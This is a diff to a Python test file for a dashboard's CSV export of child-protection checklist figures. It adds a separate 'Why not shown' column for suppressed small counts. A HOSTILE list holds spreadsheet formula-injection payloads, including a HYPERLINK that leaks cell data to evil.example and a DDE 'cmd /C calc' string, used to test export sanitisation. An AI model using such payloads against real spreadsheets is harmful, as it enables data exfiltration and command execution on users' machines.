@@ -16,6 +16,8 @@ from tests.dashboard.test_dashboard import EXPORT, FEWER, URL, table_rows
 known = test_dashboard.known
 sparse = test_dashboard.sparse
 
+HIDDEN = "not shown to protect a small cell"
+
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
@@ -62,11 +64,11 @@ def test_it_holds_the_same_figures_as_the_page(supervisor_client, known):
     params = {"period": "2026-Q2", "region": "north"}
     page = supervisor_client.get(URL, params)
     export = figures_of(supervisor_client.get(EXPORT, params))
-    assert ["Checklists completed", "", "", "Checklists", "12"] in export
-    assert ["With immediate danger flagged", "", "", "Percent of checklists", "42"] in export
+    assert ["Checklists completed", "", "", "Checklists", "12", ""] in export
+    assert ["With immediate danger flagged", "", "", "Percent of checklists", "42", ""] in export
     by_setting = {
-        item: value
-        for figure, _, item, _, value in export
+        item: value or why
+        for figure, _, item, _, value, why in export
         if figure == "Checklists by where the child was met"
     }
     page_rows = table_rows(page, "by-setting-heading")
@@ -77,25 +79,31 @@ def test_small_counts_are_suppressed_as_on_the_page(supervisor_client, sparse):
     page = supervisor_client.get(URL, {"period": "2026-Q2"})
     export = figures_of(supervisor_client.get(EXPORT, {"period": "2026-Q2"}))
     by_region = {
-        item: value for figure, _, item, _, value in export if figure == "Checklists by region"
+        item: (value, why)
+        for figure, _, item, _, value, why in export
+        if figure == "Checklists by region"
     }
-    assert by_region["East Province"] == FEWER
+    assert by_region["East Province"] == ("", FEWER)
+    page_text = {"not shown": HIDDEN}
     assert by_region == {
-        label: cells[0] for label, cells in table_rows(page, "by-region-heading").items()
+        label: ("", page_text.get(cells[0], cells[0])) if not cells[0].isdigit() else (cells[0], "")
+        for label, cells in table_rows(page, "by-region-heading").items()
     }
-    # Every figure of the page's tables appears in the export with the same text.
+    # Every figure of the page's tables appears in the export: the same number, or empty with
+    # the reason the page gives.
     html = page.content.decode()
-    for figure, *_, value in export:
+    for figure, *_, value, why in export:
         if figure.startswith("Checklists by"):
-            assert f'<td class="num">{value}</td>' in html
-    total = int(next(v for f, *_, v in export if f == "Checklists completed"))
-    shown = [int(v) for v in by_region.values() if v.isdigit()]
+            text = value or {HIDDEN: "not shown"}.get(why, why)
+            assert f'<td class="num">{text}</td>' in html
+    total = int(next(v for f, *_, v, _why in export if f == "Checklists completed"))
+    shown = [int(v) for v, _why in by_region.values() if v]
     assert total - sum(shown) >= 5, "the hidden regions together hold at least the threshold"
 
 
 def test_a_small_group_exports_no_figure(supervisor_client, sparse):
     export = figures_of(supervisor_client.get(EXPORT, {"period": "2026-Q2", "region": "east"}))
-    assert export == [["Checklists completed", "", "", "Checklists", FEWER]]
+    assert export == [["Checklists completed", "", "", "Checklists", "", FEWER]]
 
 
 @pytest.mark.parametrize("title", HOSTILE)
@@ -166,7 +174,7 @@ def test_a_region_limited_export_has_only_those_regions(client, known):
     sign_in(client, limited)
     text = client.get(EXPORT, {"period": "2026-Q2"}).content.decode()
     assert "North Province" not in text
-    assert "Checklists completed,,,Checklists,10" in text
+    assert "Checklists completed,,,Checklists,10,\r\n" in text
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
@@ -209,3 +217,20 @@ def test_the_export_needs_the_second_factor(client, supervisor):
     assert response["Location"].startswith("/accounts/two-factor/")
     assert "next=%2Fdashboard%2Fexport.csv" in response["Location"]
     assert not response.get("Content-Type", "").startswith("text/csv")
+
+
+def test_the_count_column_holds_only_numbers_and_the_reason_is_apart(supervisor_client, sparse):
+    rows = rows_of(supervisor_client.get(EXPORT, {"period": "2026-Q2"}))
+    assert ["Figure", "Group", "Item", "Measure", "Count", "Why not shown"] in rows
+    export = figures_of(supervisor_client.get(EXPORT, {"period": "2026-Q2"}))
+    reasons = set()
+    for row in export:
+        assert len(row) == 6, row
+        value, why = row[4], row[5]
+        if value:
+            assert value.isdigit(), row
+            assert why == "", row
+        else:
+            assert why in {FEWER, HIDDEN}, row
+            reasons.add(why)
+    assert reasons == {FEWER, HIDDEN}, "the sparse quarter has both kinds of hidden count"
